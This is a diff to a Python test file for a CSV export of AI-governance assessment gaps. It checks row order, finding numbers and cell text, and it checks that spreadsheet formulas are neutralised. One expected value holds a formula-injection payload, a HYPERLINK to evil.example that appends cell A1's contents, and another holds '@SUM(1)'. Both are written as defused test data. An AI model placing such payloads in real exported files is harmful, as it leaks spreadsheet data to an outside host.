@@ -1,4 +1,5 @@
-"""Gaps as CSV: one row per gap, critical first, and no cell a spreadsheet would run."""
+"""Findings as CSV: one row per gap, numbered as the page and the PDF number it, critical first
+in its framework, and no cell a spreadsheet would run."""
 
 from __future__ import annotations
 
@@ -80,8 +81,16 @@ def test_gap_rows_are_defused_and_ordered_critical_first(
     text = gaps_csv(results_for_assessment(assessment))
     found = rows(text)
     assert list(found[0]) == GAP_COLUMNS
-    assert [r["question"] for r in found[:2]] == ["red-team", "permit-held"]
-    assert [r["critical"] for r in found] == ["yes", "yes"] + ["no"] * (len(found) - 2)
+    shown = [(r["framework"], r["finding"], r["question"], r["critical"]) for r in found]
+    assert shown == [
+        ("mini-maturity", "1.1", "requirements", "no"),
+        ("mini-maturity", "1.2", "reviews", "no"),
+        ("mini-maturity", "2.1", "metrics", "no"),
+        ("mini-tier", "1.1", "permit-held", "yes"),
+        ("mini-tier", "1.2", "supervision", "no"),
+        ("mini-gate", "1.1", "red-team", "yes"),
+        ("mini-gate", "1.2", "weights-security", "no"),
+    ]
     notes = {r["question"]: r["note"] for r in found}
     assert notes["supervision"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert notes["metrics"] == "'@SUM(1)"
@@ -98,8 +107,12 @@ def test_gap_rows_are_defused_and_ordered_critical_first(
         "policy",
         "From Anthropic's Responsible Scaling Policy, which Sellitto's essay links to",
     )
-    priorities = [float(r["priority"]) for r in found[2:]]
-    assert priorities == sorted(priorities, reverse=True)
+    statements = {r["question"]: r["statement"] for r in found}
+    assert statements["red-team"] == "No pre-deployment red teaming for catastrophic misuse."
+    why = {r["question"]: r["why it matters"] for r in found}
+    assert "\u201cBefore deployment\u201d stands at Pause" in why["red-team"]
+    assert "proposed Model Law" in why["permit-held"]
+    assert "up to 33.3 points" in why["requirements"]  # weight 2 of 3, half-way: 100 x 2 x 0.5 / 3
     assert "周辉" in next(r["source"] for r in found if r["question"] == "permit-held")
 
 
